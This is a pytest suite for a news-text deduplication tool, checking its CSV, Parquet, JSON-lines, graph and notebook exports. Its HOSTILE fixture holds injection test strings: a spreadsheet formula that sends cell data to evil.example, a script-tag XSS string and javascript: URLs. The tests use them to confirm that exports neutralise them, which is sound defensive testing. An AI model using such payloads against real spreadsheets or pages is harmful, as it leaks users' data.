"""Tables, graphs and passim: what programs get of a report and of a check."""

import csv
import io
import json
import subprocess
import sys
import sysconfig
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import networkx as nx
import pytest

import dedup
from dedup.errors import UsageError
from dedup.params import SHOWN
from dedup.report import formats
from dedup.report.check_json import checked_json
from dedup.report.check_tables import check_tables
from dedup.report.outlet_tables import outlet_tables
from dedup.report.passim_json import uid
from dedup.report.report_tables import report_tables
from dedup.report.scan_json import to_json
from dedup.report.table_schema import TABLES, Folder, TableSchema
from dedup.report.tree_graph import provenance_graph, to_dot, to_gexf, to_graphml, to_mermaid
from dedup.storage.folders import check_folder, write_folder
from dedup.types import Checked, Content, Document, Edge, Family, Provenance, Report, Span

ROOT = Path(__file__).parents[1]
SEEDS = ROOT / "seeds"
PATH = sysconfig.get_path("scripts")
WIRE = (
    "Northeast Lebanon saw one of the worst spillovers of the war when the fighters briefly overran the border town of Arsal.",
    "The mayor of the town said that nobody had been told of the attack before it began on the first Saturday of August.",
    "The families of the nine soldiers waited for three years to hear what had become of them in the hills near the border.",
    "A ferry with forty passengers left the harbour of Tripoli in the evening, although the coast guard had closed the port.",
)
DAY = datetime(2018, 7, 15, 9, 30, tzinfo=UTC)
HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+1",
    "-2",
    "@SUM(A1)",
    "\tcell",
    "\rcell",
    "a\x00b",
    "two\nlines",
    "lone \ud800 surrogate",
    '<script>alert("x")</script>',
    'quote " comma , semicolon ;',
    "x" * 40_000,
    "NA",
    "1e5",
    "\u202eright to left",
)


def command(*arguments: object, cwd: Path | None = None, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    line = [f"{PATH}/dedup", *map(str, arguments)]
    return subprocess.run(line, capture_output=True, text=True, check=False, cwd=cwd, env=env)


@pytest.fixture(scope="module")
def report() -> Report:
    texts = ["\n\n".join(WIRE), "\n\n".join(WIRE), "\n\n".join(WIRE[:3]).replace("nine", "seven"), WIRE[3]]
    documents = [
        Document(
            f"d{n}",
            text,
            outlet=f"Outlet {n}" if n else None,
            published=DAY + timedelta(hours=n) if n != 3 else None,
            title=f"Title {n}",
            url=f"https://outlet{n}.example/",
            origins=(("outlet", "url"),),
        )
        for n, text in enumerate(texts)
    ]
    return dedup.trace(documents)


@pytest.fixture(scope="module")
def checked() -> Checked:
    archive = [Document("d1", "\n\n".join(WIRE), outlet="Sun", published=DAY, title="=1+1")]
    found = dedup.check(Document("draft", "\n\n".join(WIRE[:3]).replace("nine", "seven")), archive)
    assert isinstance(found, Checked)
    return found


@pytest.fixture(scope="module")
def hostile() -> Report:
    documents = [
        Document(name, "\n\n".join(WIRE), title=name, outlet=name, url=name, published=DAY + timedelta(minutes=n))
        for n, name in enumerate(HOSTILE)
    ]
    edges = tuple(Edge(child, HOSTILE[0], "main", 0.9) for child in HOSTILE[1:])
    spans = tuple(Span(name, 0, 120) for name in HOSTILE)
    family = Family("f", "reuse", spans[0], spans)
    return Report(documents, (), (family,), provenance=Provenance(edges=edges))


def written(result: str, form: str, found: object, place: Path) -> Path:
    files, about = formats.view_named(result, form).load()(found)
    write_folder(place, files, about)
    return place


# The schema.


def documented(name: str, schema: TableSchema) -> str:
    rows = "\n".join(f"| `{column.name}` | {column.type} | {column.holds} |" for column in schema.columns)
    return f"### {name}\n\nA row is {schema.row}.\n\n| column | type | holds |\n|---|---|---|\n{rows}\n"


@pytest.mark.parametrize("name", TABLES)
def test_the_documentation_lists_every_table_and_column(name: str) -> None:
    assert documented(name, TABLES[name]) in (ROOT / "docs" / "tables.md").read_text(encoding="utf-8")


def test_every_table_has_rows_of_as_many_values_as_columns(report: Report, checked: Checked) -> None:
    seen = set()
    for made in (report_tables(report), check_tables([checked]), outlet_tables(dedup.outlets(report, rules={"own": 50}))):
        assert list(made.rows) == [name for name in TABLES if name in made.rows]  # in the order of the schema
        for name, rows in made.rows.items():
            seen.add(name)
            assert all(len(row) == len(TABLES[name].columns) for row in rows())
    assert seen == set(TABLES)


# What is in the tables is what is in the JSON.


def spans(row: dict[str, Any]) -> dict[str, Any]:
    return {side: {"start": row[f"{side}_start"], "end": row[f"{side}_end"]} for side in "ab"}


def report_from_tables(tables: dict[str, list[dict[str, Any]]]) -> dict[str, Any]:
    """The parts of `dedup.report/1` that the rows hold."""
    matches = [
        {
            **{side: {"doc": row[f"{side}_doc"], **place} for side, place in spans(row).items()},
            **{name: row[name] for name in ("kind", "identity", "bits", "family", "content")},
            "parts": [
                {**spans(part), "content": part["content"], "bits": part["bits"]}
                for part in tables["parts"]
                if part["match"] == row["match"]
            ],
            "changes": [
                {"type": change["type"], **spans(change), "flags": change["flags"]}
                for change in tables["changes"]
                if change["match"] == row["match"]
            ],
        }
        for row in tables["matches"]
    ]
    families = [
        {
            "id": row["id"],
            "kind": row["kind"],
            "content": row["content"],
            "canonical": {"doc": row["canonical_doc"], "start": row["canonical_start"], "end": row["canonical_end"]},
            "passages": [
                {name: passage[name] for name in ("doc", "start", "end")}
                for passage in tables["passages"]
                if passage["family"] == row["id"]
            ],
        }
        for row in tables["families"]
    ]
    edges = [(row["family"], edge_from_row(row)) for row in tables["edges"]]
    provenance = {
        "edges": [edge for family, edge in edges if family is None],
        "versions": [
            [row["document"] for row in tables["versions"] if row["version"] == number]
            for number in sorted({row["version"] for row in tables["versions"]})
        ],
        "sources": [row | {"kind": "hidden"} for row in tables["sources"]],
        "passages": [
            {
                "family": row["family"],
                "root": row["root"]
                if row["root_start"] is None
                else {"doc": row["root"], "start": row["root_start"], "end": row["root_end"]},
                "edges": [edge for family, edge in edges if family == row["family"]],
            }
            for row in tables["trees"]
        ],
        "stories": [
            {
                "id": row["id"],
                "documents": row["documents"],
                "origins": [
                    {
                        **{name: origin[name] for name in ("id", "documents", "confidence")},
                        "reasons": reasons(origin["reasons"], origin["reason_kinds"]),
                    }
                    for origin in tables["origins"]
                    if origin["story"] == row["id"]
                ],
                "same_statement": row["same_statement"],
            }
            for row in tables["stories"]
        ],
    }
    documents = [
        {name: value for name, value in row.items() if name != "text"} | {"origins": json.loads(row["origins"])}
        for row in tables["documents"]
    ]
    return {
        "documents": documents,
        "matches": matches,
        "families": families,
        "provenance": provenance,
        "warnings": tables["warnings"],
    }


def reasons(texts: list[str], kinds: list[str], **more: object) -> list[dict[str, object]]:
    return [{"kind": kind, "text": text, **more} for text, kind in zip(texts, kinds, strict=True)]


def edge_from_row(row: dict[str, Any]) -> dict[str, Any]:
    against = reasons(row["doubts"], row["doubt_kinds"], against=True)
    return {
        **{name: row[name] for name in ("child", "parent", "kind", "confidence")},
        "evidence": row["reasons"],
        "doubts": row["doubts"],
        "reasons": reasons(row["reasons"], row["reason_kinds"], against=False) + against,
        "rivals": [
            {"parent": parent, "confidence": confidence}
            for parent, confidence in zip(row["rivals"], row["rival_confidences"], strict=True)
        ],
    }


def rows_of_parquet(folder: Path) -> dict[str, list[dict[str, Any]]]:
    parquet = pytest.importorskip("pyarrow.parquet")
    found = {path.stem: parquet.read_table(path).to_pylist() for path in sorted(folder.glob("*.parquet"))}
    for row in found["documents"]:
        row["published"] = row["published"] and row["published"].isoformat().replace("+00:00", "Z")
    return found


def rows_of_lines(text: str) -> dict[str, list[dict[str, Any]]]:
    found: dict[str, list[dict[str, Any]]] = {name: [] for name in ("about", *TABLES)}
    for line in text.splitlines():
        row = json.loads(line)
        found[row.pop("table")].append(row)
    [about] = found.pop("about")
    assert about["schema"] == "dedup.tables/1"
    return found


def rows_of_csv(folder: Path) -> dict[str, list[dict[str, Any]]]:
    """The rows of CSV by the types of the schema, as a careful reader would make them."""
    found = {}
    for path in sorted(folder.glob("*.csv")):
        types = {column.name: column.type for column in TABLES[path.stem].columns}
        with path.open(encoding="utf-8", newline="") as stream:
            found[path.stem] = [{n: typed(cell, types[n]) for n, cell in row.items()} for row in csv.DictReader(stream)]
    return found


def typed(cell: str, kind: str) -> object:
    if cell == "":
        return None
    if kind.startswith("list"):
        return json.loads(cell)
    if kind == "bool":
        return cell == "true"
    return int(cell) if kind == "int64" else float(cell) if kind == "float64" else cell


def without_nones(rows: dict[str, Any]) -> dict[str, Any]:
    return {name: rows[name] for name in ("documents", "matches", "families", "provenance", "warnings")}


def test_the_tables_of_a_report_hold_what_its_json_holds(report: Report, tmp_path: Path) -> None:
    assert report.matches
    assert report.provenance.edges
    expected = without_nones(json.loads("".join(to_json(report))))
    lines = "".join(formats.view_named("tree", "jsonl").load()(report))
    assert report_from_tables(rows_of_lines(lines)) == expected
    assert report_from_tables(rows_of_csv(written("tree", "csv", report, tmp_path / "csv"))) == expected
    assert report_from_tables(rows_of_parquet(written("tree", "parquet", report, tmp_path / "parquet"))) == expected
    listing = json.loads((tmp_path / "csv" / "dedup.json").read_text())
    assert (listing["params"], set(listing["left_out"])) == (report.params, {"phrase", "furniture"})


def test_the_tables_of_the_seeds_hold_what_their_json_holds(tmp_path: Path) -> None:
    for name in ("scan", "tree"):
        expected = json.loads(command(name, SEEDS, "--format", "json").stdout)
        assert command(name, SEEDS, "--format", "csv", "-o", tmp_path / name).returncode == 0
        assert report_from_tables(rows_of_csv(tmp_path / name)) == without_nones(expected)
    lines = command("sources", SEEDS, "--format", "jsonl").stdout
    assert report_from_tables(rows_of_lines(lines)) == without_nones(expected)


def test_the_tables_of_a_check_hold_what_its_json_holds(checked: Checked) -> None:
    [draft] = json.loads(checked_json([checked]))["drafts"]
    assert draft["passages"]
    rows = rows_of_lines("".join(formats.view_named("check", "jsonl").load()([checked])))
    [row] = rows["drafts"]
    assert (row["id"], row["length"], row["words"]) == ("draft", draft["length"], checked.words)
    assert {row["judgement"]: row["share"] for row in rows["draft_shares"]} == draft["shared"]
    assert [(row["start"], row["end"], row["judgement"], row["reason"]) for row in rows["judgements"]] == [
        (p["start"], p["end"], p["judgement"], p["reason"]) for p in draft["passages"]
    ]
    for name, key, fields in (
        ("judgement_sources", "sources", ("doc", "start", "end", "bits")),
        ("judgement_changes", "changes", ("type", "flags")),
    ):
        expected = [(n, *(x[f] for f in fields)) for n, p in enumerate(draft["passages"]) for x in p[key]]
        assert [(row["passage"], *(row[f] for f in fields)) for row in rows[name]] == expected
    assert [(row["passages"], row["sources"]) for row in rows["findings"]] == [
        (finding["passages"], finding["sources"]) for finding in draft["findings"]
    ]
    assert [row["id"] for row in rows["documents"]] == ["d1"]


def test_the_tables_of_outlets_hold_what_their_json_holds(tmp_path: Path) -> None:
    given = ("outlets", SEEDS, "--outlet-from", r"(\d+)_", "--rule", "own=10")
    expected = json.loads(command(*given, "--format", "json").stdout)
    names = ("outlets", "copied", "rules", "articles", "warnings")
    lines = rows_of_lines(command(*given, "--format", "jsonl").stdout)
    assert {name: lines[name] for name in names} == {name: expected[name] for name in names}
    assert command(*given, "--format", "csv", "-o", tmp_path / "csv").returncode == 0
    assert rows_of_csv(tmp_path / "csv") == {name: expected[name] for name in names}
    assert json.loads((tmp_path / "csv" / "dedup.json").read_text())["params"] == expected["params"]
    without = command(*given, "--format", "csv")
    assert (without.returncode, "-o FOLDER" in without.stderr) == (2, True)


def test_only_what_was_asked_for_is_in_the_tables(report: Report) -> None:
    texts = [row[-1] for row in report_tables(report).rows["documents"]()]
    assert texts == [None] * len(report.documents)
    texts = [row[-1] for row in report_tables(report, with_text=True).rows["documents"]()]
    assert texts == [document.text for document in report.documents]
    only: tuple[Content, ...] = ("quotation",)
    contents = {row[-1] for row in report_tables(report, shown=only).rows["matches"]()}
    assert contents <= {"quotation"}


# Arrow, data frames, files.


def test_tables_in_python_are_arrow_tables_and_made_when_they_are_read(report: Report) -> None:
    pytest.importorskip("pyarrow")
    tables = report.tables()
    assert set(tables) < set(TABLES)
    for name in tables:
        assert hasattr(tables[name], "__arrow_c_stream__")
        assert [(field.name, str(field.type)) for field in tables[name].schema] == [
            (c.name, c.type.replace("float64", "double").replace("timestamp[us, UTC]", "timestamp[us, tz=UTC]"))
            if not c.type.startswith("list")
            else (c.name, str(tables[name].schema.field(c.name).type))
            for c in TABLES[name].columns
        ]
    assert tables["matches"] is tables["matches"]
    assert repr(tables).startswith("<Tables documents")
    with pytest.raises(KeyError):
        tables["nothing"]


def test_data_frames_have_the_right_types(report: Report, checked: Checked) -> None:
    pandas = pytest.importorskip("pandas")
    frames = report.tables(with_text=True).to_pandas() | dedup.tables(checked).to_pandas()
    frames |= dedup.outlets(report, rules={"own": 50}).tables().to_pandas()
    assert set(frames) == set(TABLES)
    assert str(frames["documents"].published.dtype) == "datetime64[us, UTC]"
    assert str(frames["matches"].a_start.dtype) == "int64"
    assert str(frames["trees"].root_start.dtype) in {"int64", "Int64"}
    assert str(frames["judgements"].over.dtype) == "bool"
    assert next(iter(frames["edges"].reasons.iloc[0])) in report.provenance.edges[0].evidence
    assert isinstance(frames["matches"], pandas.DataFrame)


def test_polars_frames_have_the_right_types(report: Report) -> None:
    polars = pytest.importorskip("polars")
    frames = report.tables().to_polars()
    assert frames["documents"].schema["published"] == polars.Datetime("us", "UTC")
    assert frames["matches"].schema["bits"] == polars.Float64
    assert frames["stories"].schema["same_statement"] == polars.List(polars.List(polars.String))


def test_parquet_opens_in_pyarrow_polars_and_duckdb(report: Report, tmp_path: Path) -> None:
    pytest.importorskip("pyarrow")
    polars, duckdb = pytest.importorskip("polars"), pytest.importorskip("duckdb")
    tables = report_tables(report)
    folder = written("scan", "parquet", report, tmp_path / "out")
    for name, rows in tables.rows.items():
        path, count = folder / f"{name}.parquet", len(list(rows()))
        assert polars.read_parquet(path).height == count
        assert duckdb.sql(f"SELECT count(*) FROM '{path}'").fetchall() == [(count,)]
    [(kind,)] = duckdb.sql(f"SELECT DISTINCT typeof(published) FROM '{folder}/documents.parquet'").fetchall()
    assert kind == "TIMESTAMP WITH TIME ZONE"


def test_csv_opens_in_pandas_and_duckdb_with_the_right_types(report: Report, checked: Checked, tmp_path: Path) -> None:
    pandas, duckdb = pytest.importorskip("pandas"), pytest.importorskip("duckdb")
    folder = written("scan", "csv", report, tmp_path / "out")
    options = {"keep_default_na": False, "na_values": [""]}
    matches = pandas.read_csv(folder / "matches.csv", dtype={"family": str}, **options)
    assert {str(matches[name].dtype) for name in ("a_start", "a_end", "b_start", "b_end", "match")} == {"int64"}
    assert {str(matches[name].dtype) for name in ("identity", "bits")} == {"float64"}
    documents = pandas.read_csv(folder / "documents.csv", parse_dates=["published"], **options)
    assert str(documents.published.dtype) == "datetime64[us, UTC]"
    assert documents.published.isna().sum() == 1
    [(latest,)] = duckdb.sql(f"SELECT max(published) FROM '{folder}/documents.csv'").fetchall()
    assert latest == DAY + timedelta(hours=2)
    judgements = pandas.read_csv(written("check", "csv", [checked], tmp_path / "checked") / "judgements.csv")
    assert str(judgements.over.dtype) == "bool"


def test_times_in_csv_are_all_written_alike(tmp_path: Path) -> None:
    pandas = pytest.importorskip("pandas")
    times = [DAY, DAY.replace(microsecond=5), datetime(1, 1, 1, tzinfo=UTC), datetime(9999, 12, 31, 23, 59)]
    found = Report([Document(f"d{n}", "One story.", published=time) for n, time in enumerate(times)], (), ())
    path = written("scan", "csv", found, tmp_path / "out") / "documents.csv"
    assert str(pandas.read_csv(path, parse_dates=["published"]).published.dtype) == "datetime64[us, UTC]"


def test_tables_without_rows_have_their_columns(tmp_path: Path) -> None:
    empty = Report((), (), ())
    folder = written("scan", "csv", empty, tmp_path / "csv")
    for name in report_tables(empty).rows:
        assert (folder / f"{name}.csv").read_text() == ",".join(c.name for c in TABLES[name].columns) + "\n"
    [about] = "".join(formats.view_named("scan", "jsonl").load()(empty)).splitlines()
    assert json.loads(about)["table"] == "about"
    pytest.importorskip("pyarrow")
    for name, table in empty.tables().items():
        assert (table.num_rows, table.column_names) == (0, [c.name for c in TABLES[name].columns])


def test_the_same_report_gives_the_same_bytes(report: Report, tmp_path: Path) -> None:
    pytest.importorskip("pyarrow")
    for form in ("csv", "parquet", "passim"):
        first, second = (written("scan", form, report, tmp_path / f"{form}{n}") for n in range(2))
        names = sorted(path.relative_to(first) for path in first.rglob("*") if path.is_file())
        assert names == sorted(path.relative_to(second) for path in second.rglob("*") if path.is_file())
        assert all((first / name).read_bytes() == (second / name).read_bytes() for name in names)


# Strings of strangers.


def test_a_spreadsheet_finds_no_formula_in_csv(hostile: Report, tmp_path: Path) -> None:
    folder = written("tree", "csv", hostile, tmp_path / "out")
    for rows in rows_of_csv(folder).values():
        cells = [cell for row in rows for cell in row.values() if isinstance(cell, str)]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    titles = [row["title"] for row in rows_of_csv(folder)["documents"]]
    assert titles[:4] == [f"'{title}" for title in HOSTILE[:4]]
    assert titles[6:8] == ["a\\x00b", "two\nlines"]


def test_csv_of_hostile_strings_has_all_rows(hostile: Report, tmp_path: Path) -> None:
    pandas, duckdb = pytest.importorskip("pandas"), pytest.importorskip("duckdb")
    path = written("tree", "csv", hostile, tmp_path / "out") / "documents.csv"
    frame = pandas.read_csv(path, dtype=str, keep_default_na=False)
    assert len(frame) == len(set(frame.id)) == len(HOSTILE)
    assert list(frame.id[-3:]) == list(HOSTILE[-3:])
    assert duckdb.sql(f"SELECT count(DISTINCT id) FROM '{path}'").fetchall() == [(len(HOSTILE),)]


def test_parquet_and_json_lines_keep_hostile_strings(hostile: Report, tmp_path: Path) -> None:
    expected = [name.encode("utf-8", "backslashreplace").decode() for name in HOSTILE]
    folder = written("tree", "parquet", hostile, tmp_path / "out")
    assert [row["title"] for row in rows_of_parquet(folder)["documents"]] == expected
    lines = "".join(formats.view_named("tree", "jsonl").load()(hostile)).encode("utf-8", "backslashreplace").decode()
    assert [row["title"] for row in rows_of_lines(lines.replace("\u2028", " "))["documents"]] == list(HOSTILE)
    polars, duckdb = pytest.importorskip("polars"), pytest.importorskip("duckdb")
    path = folder / "documents.parquet"
    assert polars.read_parquet(path)["id"].to_list() == expected
    assert [name for (name,) in duckdb.sql(f"SELECT id FROM '{path}'").fetchall()] == expected


# Folders.


def test_a_format_of_several_files_needs_a_folder(tmp_path: Path) -> None:
    for form in ("csv", "parquet", "passim"):
        for output in ([], ["-o", "-"]):
            done = command("scan", SEEDS, "--format", form, *output, cwd=tmp_path)
            assert (done.returncode, done.stdout) == (2, "")
            assert done.stderr == f"dedup: {form} is a folder of files; name it with -o FOLDER\n"


def test_a_folder_of_ours_is_replaced_and_no_other(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    assert command("scan", SEEDS, "--format", "csv", "-o", out).returncode == 0  # it was empty
    pytest.importorskip("pyarrow")
    assert command("tree", SEEDS, "--format", "parquet", "-o", out).returncode == 0
    assert {path.suffix for path in out.iterdir()} == {".parquet", ".json"}
    (out / "notes.txt").write_text("mine")
    before = sorted(out.iterdir())
    done = command("scan", SEEDS, "--format", "csv", "-o", out)
    assert (done.returncode, "notes.txt, which dedup did not write" in done.stderr) == (2, True)
    assert sorted(out.iterdir()) == before
    assert command("scan", SEEDS, "--format", "csv", "-o", tmp_path / "missing" / "out").returncode == 2
    (tmp_path / "file").write_text("mine")
    assert "is a file" in command("scan", SEEDS, "--format", "csv", "-o", tmp_path / "file").stderr
    assert sorted(path.name for path in tmp_path.iterdir()) == ["file", "out"]  # nothing was left behind


def test_a_folder_that_is_read_or_current_is_not_written(tmp_path: Path) -> None:
    command("scan", SEEDS, "--format", "csv", "-o", tmp_path / "out")
    done = command("scan", tmp_path / "out", "--format", "csv", "-o", tmp_path / "out")
    assert (done.returncode, "holds what this command reads" in done.stderr) == (2, True)
    done = command("scan", SEEDS, "--format", "csv", "-o", ".", cwd=tmp_path / "out")
    assert (done.returncode, "current folder" in done.stderr) == (2, True)


def test_a_folder_is_written_whole_or_not_at_all(report: Report, tmp_path: Path) -> None:
    def failing() -> Iterator[str]:
        yield "half"
        raise OSError(28, "No space left on device")

    for place in (tmp_path / "new", written("scan", "csv", report, tmp_path / "old")):
        before = sorted(path.name for path in place.iterdir()) if place.exists() else None
        with pytest.raises(dedup.SourceError, match="No space left"):
            write_folder(place, {"one.csv": ["whole"], "two.csv": failing()}, {})
        assert (sorted(path.name for path in place.iterdir()) if place.exists() else None) == before
    assert [path.name for path in tmp_path.iterdir()] == ["old"]


def test_a_listing_that_is_no_listing_makes_no_folder_ours(tmp_path: Path) -> None:
    for content in (
        "",
        "[]",
        "{}",
        '{"schema": "dedup.folder/1"}',
        '{"schema": "other", "files": ["dedup.json"]}',
        "[" * 100_000,
    ):
        (tmp_path / "out").mkdir(exist_ok=True)
        (tmp_path / "out" / "dedup.json").write_text(content)
        with pytest.raises(UsageError, match=r"dedup\.json, which dedup did not write"):
            check_folder(tmp_path / "out")


@pytest.mark.parametrize("module", ["pyarrow", "pandas", "polars"])
def test_a_missing_library_is_one_line_that_names_its_extra(module: str, tmp_path: Path) -> None:
    (tmp_path / f"{module}.py").write_text(f"raise ModuleNotFoundError('no', name={module!r})")
    env = {"PATH": f"{PATH}:/usr/bin:/bin", "PYTHONPATH": str(tmp_path)}
    extra = "parquet" if module == "pyarrow" else "frames"
    call = {"pyarrow": "tables()", "pandas": "tables().to_pandas()", "polars": "tables().to_polars()"}[module]
    code = f"import dedup\ntry:\n    dedup.scan([]).{call}\nexcept dedup.UsageError as error:\n    print(error)"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False, env=env)
    assert done.stdout.rstrip("\n").endswith(f"needs {module}: pip install 'dedup-news[{extra}]'"), done.stderr
    assert done.stdout.count("\n") == 1
    if module == "pyarrow":
        run = command("scan", SEEDS, "--format", "parquet", "-o", tmp_path / "out", env=env)
        assert (run.returncode, run.stderr.count("\n"), "[parquet]" in run.stderr) == (2, 1, True)
        assert command("scan", SEEDS, "--format", "csv", "-o", tmp_path / "out", env=env).returncode == 0


def test_tables_of_anything_else_are_an_error() -> None:
    pytest.importorskip("pyarrow")
    with pytest.raises(UsageError, match="takes a Report, Outlets or results of check, not str"):
        dedup.tables(["text"])  # type: ignore[list-item] # the mistake is the test


# Graphs and notebooks.


def test_all_graphs_have_the_same_attributes(report: Report) -> None:
    graph = report.to_networkx()
    assert graph.number_of_edges()
    node = graph.nodes["d1"]
    assert node == {
        "label": "Outlet 1",
        "hidden": False,
        "outlet": "Outlet 1",
        "published": "2018-07-15T10:30:00Z",
        "title": "Title 1",
        "url": "https://outlet1.example/",
    }
    for read in (nx.read_graphml(io.BytesIO(to_graphml(report).encode())), nx.read_gexf(io.BytesIO(to_gexf(report).encode()))):
        assert {name: dict(data) for name, data in read.nodes.items()} == dict(graph.nodes.items())
        assert set(read.edges) == set(graph.edges)
        for ends, data in graph.edges.items():
            assert {name: read.edges[ends][name] for name in data} == data
            assert data["weight"] == data["confidence"]
    for text in (to_dot(report), to_mermaid(report)):
        assert "Outlet 1 · 2018-07-15 10:30 · “Title 1”" in text
        assert "https://outlet1.example/" in text


def test_gexf_has_only_what_its_schema_has(hostile: Report) -> None:
    # https://gexf.net/1.2/gexf.xsd: the attributes of each element that is written.
    allowed = {
        "gexf": {"version", "{http://www.w3.org/2001/XMLSchema-instance}schemaLocation"},
        "meta": {"lastmodifieddate"},
        "creator": set(),
        "graph": {"defaultedgetype", "mode", "idtype", "timeformat"},
        "attributes": {"class", "mode"},
        "attribute": {"id", "title", "type"},
        "nodes": {"count"},
        "node": {"id", "label"},
        "edges": {"count"},
        "edge": {"id", "source", "target", "weight", "type", "label"},
        "attvalues": set(),
        "attvalue": {"for", "value"},
    }
    types = {"integer", "long", "double", "float", "boolean", "liststring", "string", "anyURI"}
    for element in ElementTree.fromstring(to_gexf(hostile).encode()).iter():
        name = element.tag.rpartition("}")[2]
        assert element.tag == f"{{http://www.gexf.net/1.2draft}}{name}"
        assert set(element.attrib) <= allowed[name]
        assert name != "attribute" or element.attrib["type"] in types


def test_graphs_of_hostile_strings_open_with_all_nodes(hostile: Report) -> None:
    for read in (
        nx.read_graphml(io.BytesIO(to_graphml(hostile).encode())),
        nx.read_gexf(io.BytesIO(to_gexf(hostile).encode())),
    ):
        assert (read.number_of_nodes(), read.number_of_edges()) == (len(HOSTILE), len(HOSTILE) - 1)
    assert provenance_graph(hostile).number_of_nodes() == len(HOSTILE)
    for text in (to_dot(hostile), to_mermaid(hostile)):
        text.encode()
        assert len(text.splitlines()) == 2 * len(HOSTILE) + 2 * (text == to_dot(hostile))
    assert "<script>" not in to_mermaid(hostile)


def test_only_web_addresses_are_links_in_graphs() -> None:
    urls = ("javascript:alert(1)", 'https://a.example/"onclick', "data:text/html,x")
    found = Report([Document(f"d{n}", "One story.", url=url) for n, url in enumerate(urls)], (), ())
    assert to_dot(found).count("URL=") == 1
    assert to_mermaid(found).count("click n") == 1
    assert 'href "https://a.example/%22onclick"' in to_mermaid(found)


def test_a_report_in_a_notebook_is_short_and_safe(report: Report, hostile: Report) -> None:
    shown = report._repr_html_()
    assert "<th>documents</th><td>4</td>" in shown
    assert len(shown) < 5000
    text = '<script>alert("x")</script>\u202e & more'
    document = Document("d", text)
    family = Family("f", "reuse", Span("d", 0, len(text)), (Span("d", 0, len(text)),))
    shown = Report([document], (), (family,))._repr_html_()
    assert "&lt;script&gt;" in shown
    assert "<script" not in shown
    assert "\u202e" not in shown
    assert len(hostile._repr_html_()) < 5000
    ElementTree.fromstring(shown)


# passim.


def passim(report: Report) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    found: Folder = formats.view_named("scan", "passim").load()(report)
    out, align = (
        [json.loads(line) for line in "".join(map(str, found.files[f"{name}.json/part-00000.json"])).splitlines()]
        for name in ("out", "align")
    )
    return out, align


def test_rows_of_clusters_are_those_of_passim(report: Report) -> None:
    rows, _ = passim(report)
    texts = {document.id: document.text for document in report.documents}
    families = {f.id: f for f in report.families if f.content in SHOWN}
    assert {row["family"] for row in rows} == set(families)
    assert len(rows) == sum(len(family.passages) for family in families.values())
    for row in rows:
        assert {"uid", "cluster", "size", "begin", "end", "text", "src", "pboiler", "id"} <= set(row)
        assert row["text"] == texts[row["id"]][row["begin"] : row["end"]]
        assert row["uid"] == uid(row["id"])
        assert row["size"] == len({span.doc for span in families[row["family"]].passages})
        assert [source["uid"] for source in row["src"]] in ([], [uid(families[row["family"]].canonical.doc or "")])
    assert rows == sorted(rows, key=lambda row: (-row["size"], row["cluster"]))


def test_the_uid_of_a_document_is_that_of_spark() -> None:
    # Of the documentation of pyspark.sql.functions.xxhash64.
    assert uid("ABC") == 4105715581806190027


def test_rows_of_pairs_put_both_texts_one_below_the_other(report: Report) -> None:
    _, rows = passim(report)
    texts = {document.id: document.text for document in report.documents}
    assert len(rows) == len([match for match in report.matches if match.content in SHOWN])
    for row in rows:
        assert len(row["s1"]) == len(row["s2"])
        for side, text in (("", row["s1"]), ("2", row["s2"])):
            passage = texts[row[f"id{side}"]][row[f"begin{side}"] : row[f"end{side}"]]
            assert text.replace("-", "").replace("\u2010", "-") == passage
        assert row["matches"] == sum(a == b for a, b in zip(row["s1"], row["s2"], strict=True))
    changed = [row for row in rows if row["id2"] == "d2" or row["id"] == "d2"]
    assert any("seven" in row["s1"] + row["s2"] for row in changed)


def test_an_input_of_passim_is_read_as_it_is(tmp_path: Path) -> None:
    import gzip  # noqa: PLC0415 only here

    text = "\n".join(WIRE[:2])
    region = {"start": 0, "length": 9, "coords": {"x": 1, "y": 2, "w": 3, "h": 4}}
    pages = [{"id": "p1", "seq": 1, "width": 10, "height": 10, "dpi": 300, "regions": [region]}]
    first = {"id": "moon_1", "series": "moon", "date": "1855-03-01", "text": text, "title": "Mail", "pages": pages}
    second = {"id": "sun_1", "series": "sun", "date": "1855-03-03", "text": text}
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "part-00000.json").write_text(json.dumps(first) + "\n")
    (tmp_path / "in" / "part-00001.json.gz").write_bytes(gzip.compress(json.dumps(second).encode() + b"\n"))
    done = command("scan", tmp_path / "in", "--format", "passim", "-o", tmp_path / "out")
    assert (done.returncode, done.stderr) == (0, "")
    rows = [json.loads(line) for line in (tmp_path / "out" / "out.json" / "part-00000.json").read_text().splitlines()]
    assert [(row["id"], row["series"], row["date"], row["size"]) for row in rows] == [
        ("moon_1", "moon", "1855-03-01", 2),
        ("sun_1", "sun", "1855-03-03", 2),
    ]
    [pair] = map(json.loads, (tmp_path / "out" / "align.json" / "part-00000.json").read_text().splitlines())
    assert (pair["series"], pair["series2"], pair["date2"], pair["matches"]) == ("moon", "sun", "1855-03-03", len(text))
